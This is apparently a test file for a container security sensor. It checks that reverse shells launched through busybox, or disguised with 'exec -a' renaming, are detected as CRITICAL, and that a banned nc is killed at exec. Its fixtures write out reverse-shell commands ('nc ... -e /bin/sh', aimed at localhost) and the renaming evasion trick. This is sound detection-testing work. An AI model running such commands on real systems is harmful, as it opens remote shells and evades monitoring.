"""Kernel tier: busybox applets are named by what they run, however they are started (issue 21
item 2). A real daemon (full profile) and a real busybox container:

- must fire: ``busybox nc ... -e /bin/sh``, ``exec -a nc /bin/ls ...`` (ls is busybox) and the
  shell's own applet re-exec are each a reverse shell at CRITICAL, named nc, and in enforce mode
  a banned nc so started is killed by the kernel at exec;
- must not fire: ``busybox sh -c``, ``busybox echo`` and ``exec -a`` of a harmless applet are named
  as what they are, and are neither reverse shells nor banned.
"""

from __future__ import annotations

import time
from pathlib import Path

import pytest

from sensor.events import NAME_MISMATCH
from sensor.journal import read_journal
from tests.kernel.sensord import daemon, findings
from tests.waiting import wait_for

pytestmark = [pytest.mark.kernel, pytest.mark.docker]

RUNS = ("sleep 2; busybox nc 127.0.0.1 9 -e /bin/sh; (exec -a nc /bin/ls 127.0.0.1 9 -e /bin/sh);"
        " nc 127.0.0.1 9 -e /bin/sh; busybox sh -c 'echo quiet'; busybox echo calm;"
        " (exec -a true /bin/ls); echo done; sleep 3600")


def test_applets_are_named_by_what_they_run(tmp_path: Path, busybox) -> None:  # type: ignore[no-untyped-def]
    journal = tmp_path / "events.msgpack"
    with daemon(tmp_path / "state", "--profile", "full", "--record", str(journal)) as out:
        c = busybox(RUNS)
        wait_for(lambda: "done" in c.logs().decode(), timeout_s=30)
        time.sleep(2)
    execs = [ev for ev in read_journal(journal) if ev.container_id == c.id and ev.kind == "exec"]
    ncs = [ev for ev in execs if ev.comm == "nc"]
    assert len(ncs) == 3 and {ev.exe for ev in ncs} == {"/bin/nc"}, [(ev.comm, ev.exe, ev.args) for ev in execs]
    by_args = {ev.args: ev for ev in ncs}
    direct = by_args[("busybox", "nc", "127.0.0.1", "9", "-e", "/bin/sh")]
    assert direct.flags & NAME_MISMATCH and direct.path == "/bin/busybox"
    renamed = by_args[("nc", "127.0.0.1", "9", "-e", "/bin/sh")]
    assert any(ev.flags & NAME_MISMATCH and ev.path == "/bin/ls" for ev in ncs), renamed
    quiet = {ev.comm: ev.exe for ev in execs if ev.comm in ("sh", "echo", "true")}
    assert quiet.get("echo") == "/bin/echo" and quiet.get("true") == "/bin/true", quiet
    mine = [f for f in findings(out) if c.name in f["output"]]
    shells = [f for f in mine if f["rule"] == "Reverse Shell in Container"]
    assert len(shells) == 3 and {f["priority"] for f in shells} == {"CRITICAL"}, mine
    assert not [f for f in shells if "quiet" in f["output"] or "calm" in f["output"]]


def test_banned_applet_started_through_busybox_is_killed_by_the_kernel(tmp_path: Path, busybox) -> None:  # type: ignore[no-untyped-def]
    policy = tmp_path / "policy.yaml"
    policy.write_text("images:\n- match: 'cgsentry/busybox:*'\n  mode: enforce\n  banned_processes: [nc]\n")
    with daemon(tmp_path / "state", "--profile", "full", "--policy", str(policy)) as out:
        c = busybox("sleep 1; busybox nc -l -p 17999 127.0.0.1; echo rc1=$?;"
                    " (exec -a nc /bin/ls -l -p 17999 127.0.0.1); echo rc2=$?;"
                    " busybox echo fine; echo rc3=$?; sleep 3600")
        wait_for(lambda: "rc3=" in c.logs().decode(), timeout_s=30)
        time.sleep(1)
        banned = [f for f in findings(out) if f["rule"] == "Policy: banned process"]
    logs = c.logs().decode()
    assert "rc1=137" in logs and "rc2=137" in logs, logs  # SIGKILL, both ways of naming it
    assert "fine" in logs and "rc3=0" in logs, logs  # another applet of the same file runs
    assert len(banned) == 2, banned
    assert all("killed at exec by the kernel" in f["output"] for f in banned), banned
